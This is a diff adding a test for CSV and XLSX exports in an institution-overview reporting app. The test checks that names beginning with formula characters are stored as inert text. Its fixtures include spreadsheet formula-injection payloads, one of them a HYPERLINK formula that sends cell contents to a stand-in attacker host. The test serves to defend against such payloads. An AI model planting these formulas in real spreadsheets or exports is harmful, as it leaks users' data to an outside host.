@@ -52,6 +52,36 @@ describe.each(kinds)("exports on %s", (kind) => {
     expect(b7).toEqual([["Alfa; \"sitat\" Pensjon", false], ["Beta Pensjon", true]]);
   });
 
+  // Institution names a spreadsheet would run as formulas: every prefix OWASP names.
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
+
+  it("writes cells that would start a formula as text in CSV, and as plain strings in XLSX", async () => {
+    const f = await openFreshDatabase(kind);
+    try {
+      for (const name of FORMULAS) await seedInstitution(f.prisma, { name });
+      const overview = await overviewTable({ db: f.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({}) });
+      const parsed = parse(toCsv(overview).slice(1), { delimiter: ";" }) as string[][];
+      const names = parsed.slice(1).map((r) => r[1]);
+      expect(names.sort()).toEqual(FORMULAS.map((n) => `'${n}`).sort());
+      // numbers (a negative number too) stay numbers
+      expect(parsed.slice(1).every((r) => /^\d+$/.test(r[overview.headers.indexOf("overall_percent")]))).toBe(true);
+
+      const steps = await stepDetailTable({ db: f.prisma, actor: coordinator, today: "2026-11-26" });
+      const stepCsv = parse(toCsv(steps).slice(1), { delimiter: ";" }) as string[][];
+      expect(new Set(stepCsv.slice(1).map((r) => r[1]))).toEqual(new Set(FORMULAS.map((n) => `'${n}`)));
+
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load((await toXlsx(overview)) as unknown as ArrayBuffer);
+      const sheet = workbook.getWorksheet("oversikt")!;
+      const cells = FORMULAS.map((_, i) => sheet.getRow(i + 2).getCell(2));
+      expect(cells.map((c) => c.type)).toEqual(FORMULAS.map(() => ExcelJS.ValueType.String));
+      // the text as it was (XML reads a carriage return back as a line feed)
+      expect(cells.map((c) => c.value).sort()).toEqual(FORMULAS.map((n) => n.replace(/\r/g, "\n")).sort());
+    } finally {
+      await f.close();
+    }
+  });
+
   it("refuses institution users (not found) and logs the attempt", async () => {
     const member = { id: "m", email: "m@test.example", role: "INSTITUTION_USER" as const, memberships: [{ institutionId: ids[0], memberRole: "OWNER" as const }] };
     await expect(stepDetailTable({ db: t.prisma, actor: member, today: "2026-11-26" })).rejects.toThrow("NOT_FOUND");
